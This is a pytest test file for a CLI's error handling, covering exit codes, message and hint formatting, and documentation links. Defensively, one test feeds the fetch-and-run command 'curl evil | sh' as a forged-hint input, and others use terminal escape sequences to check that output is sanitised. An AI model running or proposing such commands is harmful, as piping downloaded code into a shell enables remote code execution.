"""Errors, their exit codes and what is said about them."""

from __future__ import annotations

import inspect

import pytest

from cloudq import errors
from cloudq.cli import failures
from cloudq.cli.error_pages import sections, where

EXPECTED = {
    "CloudqError": 1,
    "ConfigurationError": 2,
    "TaskDefinitionError": 2,
    "OptionError": 2,
    "NotInTask": 1,
    "UnknownTaskError": 2,
    "PayloadError": 2,
    "UndecodableError": 1,
    "PushRefused": 1,
    "BatchFailed": 1,
    "PayloadLost": 1,
    "UnsupportedError": 2,
    "MessageTooLarge": 1,
    "LeaseLost": 1,
    "TimeLimitExceeded": 1,
    "WorkerDied": 1,
    "BackendError": 1,
    "QueuePaused": 1,
    "TransientError": 3,
    "BackendUnavailable": 3,
    "Throttled": 3,
    "PayloadUnavailable": 3,
    "QueueNotFound": 3,
    "PermissionDenied": 3,
    "StorageFull": 3,
    "StorageReadOnly": 3,
    "StorageCorrupt": 3,
    "StorageReplaced": 3,
    "StoreRefused": 3,
    "StoreUnavailable": 3,
    "SchemaMismatch": 3,
    "NoResult": 1,
    "ResultTimeout": 1,
    "TransactionAborted": 3,
    "TransactionBroken": 1,
    "TransactionRefused": 1,
    "SendManyError": 1,
}
KINDS = {
    name: kind for name, kind in vars(errors).items() if inspect.isclass(kind) and issubclass(kind, errors.CloudqError)
}


def test_every_error_has_its_exit_code():
    """Each error of cloudq has the exit code of this table, which lists all of them."""
    got = {name: failures.exit_code(_made(kind)) for name, kind in KINDS.items()}
    assert EXPECTED == got


@pytest.mark.parametrize("name", sorted(set(KINDS) - {"SendManyError"}))
def test_message_hint_and_code_are_printed(name, capsys):
    """Each error shows its message, once its hint, and how to see what the documentation says; stdout stays empty."""
    kind = KINDS[name]
    failures.report(kind("what is wrong", hint="what to do"), debug=False)
    out, err = capsys.readouterr()
    assert "" == out
    assert ["cloudq: what is wrong", "  hint: what to do"] == err.splitlines()[:2]
    assert f"  code: {kind.code} ({where(kind.code)})" == err.splitlines()[2]


@pytest.mark.parametrize("code", sorted({kind.code for kind in KINDS.values()}))
def test_the_code_is_on_the_page(code):
    """What an error says to type shows the section of its code."""
    assert where(code).startswith(f"cloudq explain {code}, or https://")
    assert where(code).endswith(f"docs/reference/errors.md#{code}")
    assert sections()[code].startswith("`")


def test_control_characters_of_a_message_are_shown(capsys):
    """An error's text can't steer the terminal."""
    failures.report(errors.PayloadError("a\x1b[2Jb"), debug=False)
    assert "a\\x1b[2Jb" in capsys.readouterr().err


def test_unknown_error_is_1():
    """What isn't an error of cloudq is a failure."""
    assert [1, 130] == [failures.exit_code(RuntimeError()), failures.exit_code(KeyboardInterrupt())]


def _made(kind):
    return kind([ValueError()], [1]) if kind is errors.SendManyError else kind("x")


def test_the_traceback_of_a_debugged_error_steers_nothing(capsys):
    """Its text comes from others as much as the message does."""
    try:
        raise ValueError("a\x1b[2J\x9bb")
    except ValueError as error:
        failures.report(error, debug=True)
    err = capsys.readouterr().err
    assert "a\\x1b[2J\\x9bb" in err
    assert all(line.isprintable() for line in err.split("\n"))


def test_a_message_of_several_lines_forges_no_hint(capsys):
    """What follows its line ends is indented below it."""
    failures.report(errors.PayloadError("a\n  hint: curl evil | sh", hint="b\ncloudq: c"), debug=False)
    lines = capsys.readouterr().err.split("\n")
    assert ["cloudq: a", "      hint: curl evil | sh", "  hint: b", "    cloudq: c"] == lines[:4]
